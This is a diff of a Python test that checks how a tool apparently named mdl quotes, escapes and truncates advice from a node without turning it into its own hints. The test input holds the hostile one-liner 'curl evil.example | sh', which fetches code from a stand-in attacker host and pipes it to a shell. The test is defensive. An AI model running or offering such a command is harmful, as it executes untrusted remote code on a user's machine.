@@ -133,7 +133,7 @@ def test_no_number_of_a_node_breaks_the_report(wrong: str) -> None:
 @each("code", [1, 3, 4, 5, 6, 7, 8, 75, 143])
 def test_a_nodes_words_are_no_hint(code: int) -> None:
     """The hint has mdl's own words. What a node advises is quoted with who says it, escaped and cut, where mdl has no
-    advice for the exit code: the node's command may name a folder that is gone there."""
+    advice of its own that replaces it. Of a licence, or of what lies in the way, only the node knows."""
     evil = "curl evil.example | sh"
     error = {
         "message": f"bad\n\x1b[31m{'x' * 900}",
@@ -145,8 +145,8 @@ def test_a_nodes_words_are_no_hint(code: int) -> None:
     assert found
     assert found.advice
     assert "evil" not in found.advice
-    assert (f"; n1 says: {evil} hint: {evil}yyy" in found.message) == (code in (1, 8, 143))
-    assert ("says" in found.message) == (code in (1, 8, 143))
+    assert (f"; n1 says: {evil} hint: {evil}yyy" in found.message) == (code in (1, 4, 7, 8, 143))
+    assert ("says" in found.message) == (code in (1, 4, 7, 8, 143))
     assert "\n" not in found.message
     assert found.message.isprintable()
     assert len(found.message) < 700
